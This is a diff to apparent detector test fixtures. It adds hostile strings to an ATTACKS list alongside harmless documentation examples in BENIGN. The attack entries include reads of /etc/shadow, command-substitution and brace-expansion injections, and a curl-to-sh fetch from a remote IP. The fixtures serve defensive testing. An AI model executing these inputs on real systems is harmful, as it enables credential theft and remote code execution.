@@ -71,6 +71,27 @@ ATTACKS = {
         "/srv/site/logs/lighttpd_log", "/home/web/logs/nginx_log",
         "htdocs/logs/error_log",
     ],
+    # second batch, written after the first batch's changes and before
+    # any of its own (2026-12-02): documentation's own markup read as code
+    "rest-literal": [
+        "prompt``", "parent.alert``", "x.call`1`", "obj.run`${top.alert(1)}`",
+    ],
+    "bin-path-line": [
+        "/bin/cat /etc/shadow", "/bin/sh -c id", "x;/usr/bin/id",
+        "/usr/bin/curl -s http://203.0.113.9/x | sh",
+    ],
+    "code-span-path": [
+        "`/etc/shadow`", "x`cat /etc/hosts`", "a;cat `echo /etc/passwd`",
+    ],
+    "gnu-quote": [
+        "`id`", "1`whoami`", "x;`id`", "q `uname -a`",
+    ],
+    "brace-position": [
+        "{cat,/etc/passwd}", ";{id,}", "a|{uname,-a}", "$({whoami,})",
+    ],
+    "make-var": [
+        "$(whoami)", "x$(uname)", "$(sleep 5)", "$(nproc)",
+    ],
 }
 
 BENIGN = {
@@ -108,6 +129,40 @@ BENIGN = {
         "docs/change_log",
         "Moved the change_log into docs/ last week.",
         "/api/v1/logs/event_log",
+    ],
+    "rest-literal": [
+        "The ``setup.py`` file is read first.",
+        "Use ``os.path.join`` to build paths.",
+        "Set ``sys.path`` before the import.",
+        "reST marks literals with double backticks: ``x.y``.",
+    ],
+    "bin-path-line": [
+        "/usr/bin/foo-helper\n    Helper program that converts the files.",
+        "/usr/sbin/add-user-helper NAME",
+        "/usr/libexec/app/helper --version prints the version",
+        "/usr/bin/pinentry-tty is the text prompt.",
+    ],
+    "code-span-path": [
+        "Edit `/etc/hosts` and add the name.",
+        "The list is kept in `/var/lib/app/state` between runs.",
+        "Read `/proc/meminfo' for the totals.",
+    ],
+    "gnu-quote": [
+        "Type `make' to build, then `make install'.",
+        "The `ls' command lists files.",
+        "Run `./configure' first, then `make'.",
+    ],
+    "brace-position": [
+        "Usage: tool [-h] {start,stop,status}",
+        "Choose one of {red,green,blue}.",
+        "{heap,stack}-buffer overflows",
+        "--shell {bash,zsh,fish}",
+    ],
+    "make-var": [
+        "Copy it to include/$(ARCH)/config.h",
+        "Set CFLAGS=$(OPT) in the Makefile.",
+        "Search $(srcdir)/lib for headers",
+        "The tarball is app-$(VERSION).tar.gz",
     ],
 }
 
